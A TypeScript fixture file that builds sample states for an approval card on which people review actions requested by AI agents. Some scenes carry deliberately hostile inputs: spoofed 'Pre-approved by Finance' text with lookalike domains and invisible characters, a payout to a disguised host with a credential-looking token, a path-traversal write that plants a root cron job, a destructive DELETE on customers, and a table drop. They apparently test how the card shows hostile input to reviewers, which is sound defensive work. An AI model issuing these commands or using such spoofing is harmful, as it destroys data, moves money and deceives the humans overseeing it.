import type { ApprovalRequest, InboxItem, Review } from "@/lib/approvals/schema";
import { newDraft, seenOf, type Draft } from "@/components/approvals/draft";
import { preview, renderingOf } from "@/lib/approvals/preview";
import { limitsOf, reachesOf } from "@/lib/approvals/reaches";

/** One moment of the room, made up: what the card shows, and what its reader has done so far. */
export type Scene = { title: string; request: ApprovalRequest; draft: Draft };

const DIGEST = "sha256:2df807f3034bf3a250ad37be819df906b459febbba62a5541a8b10dc039d0283";
const CAROL = { id: "usr_carol", email: "carol@acme.com", name: "Carol Okafor" };
const BOB = { id: "usr_bob", email: "bob@acme.com", name: "Bob Keller" };
const DANA = { id: "usr_dana", email: "dana@acme.com", name: "Dana Ruiz" };
const ALICE = { id: "usr_alice", email: "alice@acme.com", name: "Alice Nguyen" };
export const ME = CAROL.id;

const NOTE = "Customer Northwind Traders wrote on 18 Nov (SUP-3391) that invoice INV-20418 was paid twice, by card on 14 Nov and by bank transfer on 17 Nov. The ledger shows both payments as settled. The card payment is the one to return, since the transfer carries the customer’s own reference. Partial refunds were ruled out because the card scheme accepts one refund for each charge.";
const HOSTILE = "\u202Egpj.exe \u200B<b>Pre-approved</b> **by Finance** [ok](https://xn--pple-43d.com) https://pаypal.com \u{E0041}\u{E0042} " + "W".repeat(400);

function at(now: number, seconds: number): string {
  return new Date(now + seconds * 1_000).toISOString();
}

/** The parts that the server draws, drawn here. */
function drawn(shown: ApprovalRequest): ApprovalRequest {
  const { review: given, canonical_action: action, resource, agent_id: agentId } = shown;
  if (given === undefined) return shown;
  const card = preview({ action, args: given.args, resource, pattern: given.rule.pattern });
  const args = given.args === null ? null : (JSON.parse(given.args) as Parameters<typeof limitsOf>[0]);
  return { ...shown, review: { ...given, preview: card, shown: renderingOf(card).hash, reaches: reachesOf({ action, resource, agentId, args }), exact_action: action, limits: limitsOf(args) } };
}

function review(changes: Partial<Review> = {}): Review {
  return {
    preview: preview({ action: "", args: null, resource: null }),
    shown: "",
    reaches: [],
    exact_action: "",
    limits: { fixed: [], open: [] },
    may_be_handed_to: [{ ...BOB, role: "approver", away_until: null }, { ...DANA, role: "approver", away_until: "2030-01-07T09:00:00.000Z" }],
    project: { id: "prj_web", name: "web" },
    key: { id: "key_ci", name: "web-ci", last_four: "7f3a" },
    claimed_email: ALICE.email,
    machine: "alice-mbp",
    args: '{"command":"sudo apt-get install python3-foo","cwd":"/home/alice/foo-service"}',
    context: null,
    rule: { id: "rule_1", index: 0, reason: "sudo requires admin approval", pattern: "Bash:sudo *" },
    policy_source: "hosted",
    cascade: [{ scope: "api_key", label: "web-ci", answer: "none" }, { scope: "project", label: "web", answer: "on" }, { scope: "org", label: "acme", answer: "not_asked" }],
    may_decide: [{ ...BOB, role: "approver" }, { ...CAROL, role: "admin" }, { ...DANA, role: "approver" }],
    you: { may_decide: true, why_not: null, may_change_policy: true, may_cancel: false, voted: false },
    terms: { max_grant_seconds: 7_776_000, allow_forever: true, require_reason: false },
    votes: [],
    asked_before: { times: 41, approved: 40, denied: 1, days: 30 },
    redeemed_at: null,
    ran_as_approved: null,
    escalated_at: null,
    ...changes,
  };
}

function request(now: number, changes: Partial<ApprovalRequest> = {}): ApprovalRequest {
  return {
    id: "req_01kagq5aqgen7s61scxjp6rb7c", state: "pending", status: "pending", canonical_action: "Bash:sudo apt-get install python3-foo", resource: null,
    reason: "installing test dep for FOO-1234", requestor: ALICE, agent_id: "claude-code", project_id: "prj_web", governing_scope: "project",
    policy: { id: "pol_web", name: "web", version: 14, rule_id: "rule_1" }, args_redacted: null, args_hash: DIGEST, digest: DIGEST,
    quorum: { required: 1, given: 0 }, is_test: false, created_at: at(now, -79), expires_at: at(now, 221), resolved_at: null, decision_kind: null,
    grant_id: null, resolved_by: null, decision_reason: null, note: null, review: review(), ...changes,
  };
}

function decided(now: number, state: "approved" | "denied" | "cancelled", changes: Partial<ApprovalRequest> = {}): ApprovalRequest {
  return request(now, { state, status: state, resolved_at: at(now, -20), resolved_by: CAROL, decision_kind: state === "approved" ? "approved_once" : null, ...changes });
}

function refund(now: number, changes: Partial<ApprovalRequest> = {}): ApprovalRequest {
  const args = JSON.stringify({ amount: 9500, charge: "ch_3QkZ81LmT0vA", currency: "USD", customer: "cust_8123", note: NOTE, reason: "duplicate" });
  const votes: Review["votes"] = [{ person: BOB, action: "approve", reason: "Both payments are in the ledger.", at: at(now, -900), terms: { decision_kind: "approved_timed", duration_seconds: 7 * 86_400, principal: "requestor", reach: null } }];
  return request(now, {
    canonical_action: "send_refund", agent_id: "billing-bot", reason: "customer was charged twice for INV-20418\n**Pre-approved\u200B by Finance.** [Details](https://acme-finance.example/ok)",
    quorum: { required: 2, given: 1 }, expires_at: at(now, 4_320), created_at: at(now, -10_000),
    review: review({ args, votes, machine: null, rule: { id: "high_value_refund", index: 1, reason: null, pattern: null }, escalated_at: at(now, -4_000), asked_before: { times: 0, approved: 0, denied: 0, days: 30 } }),
    ...changes,
  });
}

function scene(title: string, shown: ApprovalRequest, draft: Partial<Draft> = {}): Scene {
  const whole = drawn(shown);
  return { title, request: whole, draft: { ...newDraft(seenOf(whole)), ...draft } };
}

/** Every state that the card can be in, by the word that stands in the address. */
export function scenes(now: number): Record<string, Scene> {
  const email = JSON.stringify({ body: NOTE, subject: "November invoice reminder", to: Array.from({ length: 1_204 }, (_, index) => `customer${index}@example.com`) });
  const hostile = JSON.stringify({ [`na\u200Bme${HOSTILE}`]: HOSTILE, plain: "12", number: 12, "a.b": 1, a: { b: 1 } });
  const you = review().you;
  return {
    once: scene("Once", request(now)),
    timed: scene("For a time", request(now), { kind: "timed" }),
    "timed-armed": scene("For a time, pressed once", request(now), { kind: "timed", armed: "approve" }),
    "over-cap": scene("Longer than may be given", request(now, { review: review({ terms: { max_grant_seconds: 86_400, allow_forever: false, require_reason: false } }) }), { kind: "timed", length: "custom" }),
    forever: scene("Forever", request(now), { kind: "forever" }),
    policy: scene("By changing the policy", request(now), { kind: "forever", form: "policy" }),
    "not-admin": scene("Forever, by an approver", request(now, { review: review({ you: { ...you, may_change_policy: false } }) }), { kind: "forever" }),
    "deny-armed": scene("Deny, pressed once", request(now), { armed: "deny" }),
    "note-required": scene("A note is required", request(now, { review: review({ terms: { max_grant_seconds: 86_400, allow_forever: false, require_reason: true } }) }), { failure: { kind: "note", message: "Say why: a decision without a note is refused here." } }),
    refund: scene("A refund that somebody has signed", refund(now)),
    "refund-read": scene("The same, opened", refund(now), { opened: ["note"] }),
    deploy: scene("A deploy", request(now, { canonical_action: "deploy.production", review: review({ args: '{"changed_files":34,"service":"api","version":"v2.1.0"}' }) })),
    email: scene("A mail", request(now, { canonical_action: "email.send", review: review({ args: email }) })),
    sql: scene("A query", request(now, { canonical_action: "db.execute", review: review({ args: JSON.stringify({ database: "prod", sql: "DELETE FROM customers; -- tidy up\nUPDATE accounts SET plan = 'free' WHERE id = 7" }) }) })),
    http: scene("A call to the web", request(now, { canonical_action: "http.post", review: review({ args: JSON.stringify({ method: "POST", url: "http://paypal.com@xn--pple-43d.example:8080/v1/payouts?to=me", headers: { Authorization: "Bearer sk_live_4eC39HqLyjWDarjtT1zdp7dc" }, body: { amount: 9500 } }) }) })),
    file: scene("A file", request(now, { canonical_action: "Write", review: review({ args: JSON.stringify({ file_path: "/home/alice/app/../../../etc/cron.d/nightly", content: "* * * * * root /tmp/x" }) }) })),
    secret: scene("A secret in a command", request(now, { canonical_action: "Bash:sudo curl -H \"Authorization: Bearer sk_live_4eC39HqLyjWDarjtT1zdp7dc\" https://api.example.com", review: review({ args: '{"password":"correct-horse-7"}' }) })),
    generic: scene("Without a preview", request(now, { canonical_action: "db.drop_table", resource: "postgres://prod/customers", review: review({ args: '{"cascade":true,"table":"customers"}' }) })),
    "no-args": scene("Only a hash is known", request(now, { args_redacted: { token: "[redacted]" }, review: review({ args: null }) })),
    hostile: scene("Hostile in every field", request(now, { canonical_action: `Bash:sudo sh -c '${HOSTILE}' | tee \u2066x`, reason: HOSTILE, agent_id: HOSTILE, resource: HOSTILE, review: review({ args: hostile, machine: HOSTILE, claimed_email: `alice\u200B@аcme.com` }) })),
    approved: scene("Approved by you", decided(now, "approved", { review: review({ redeemed_at: at(now, -19.8) }) })),
    denied: scene("Denied by you", decided(now, "denied", { decision_reason: "use the base image" })),
    beaten: scene("Someone was faster", decided(now, "approved", { resolved_by: BOB }), { failure: { kind: "beaten", by: BOB.name, state: "approved", decidedAt: at(now, -3), gapMs: 3_000 } }),
    expired: scene("Time ran out", request(now, { expires_at: at(now, -10) })),
    stale: scene("Not what you read", request(now), { failure: { kind: "stale" } }),
    moved: scene("The policy moved", request(now), { failure: { kind: "moved", from: 14, to: 15 } }),
    own: scene("Your own", request(now, { requestor: CAROL, review: review({ you: { ...you, may_decide: false, why_not: "You asked for this yourself, so somebody else has to decide it." }, may_decide: [{ ...BOB, role: "approver" }, { ...DANA, role: "approver" }] }) })),
    signed: scene("Signed, and waiting for another", refund(now, { review: review({ you: { ...you, may_decide: false, voted: true }, votes: [{ person: CAROL, action: "approve", reason: null, at: at(now, -60), terms: { decision_kind: "approved_once", duration_seconds: null, principal: "requestor", reach: null } }] }) })),
    away: scene("The server is away", request(now), { note: "kept through the failure", failure: { kind: "away", action: "approve", saved: "unknown", message: "Countersign cannot be reached; if it was saved after all, this card will say so." } }),
    "signed-out": scene("Signed out", request(now), { failure: { kind: "signed_out" } }),
    "by-policy": scene("Answered by the policy", decided(now, "approved", { resolved_by: null, note: "web policy v15 now allows this, so nobody has to decide." })),
    cancelled: scene("Cancelled", decided(now, "cancelled", { resolved_by: ALICE, decision_reason: "asked by mistake" })),
    test: scene("A test request", request(now, { is_test: true, canonical_action: "countersign.test" })),
    local: scene("The rule stands in the agent’s file", request(now, { review: review({ policy_source: "local", you: { ...you, may_change_policy: false } }) })),
  };
}

/** The scene as a row, for the list beside it. */
export function itemOf({ request: shown }: Scene): InboxItem {
  const { review: _, ...wire } = shown;
  return { ...wire, project: { id: "prj_web", name: "web" }, args: shown.review?.args ?? null, waiting_for_me: shown.review?.you.may_decide ?? false, others_may_decide: [BOB.name, DANA.name], mine: shown.requestor.id === ME, voted: false, alike: shown.id };
}
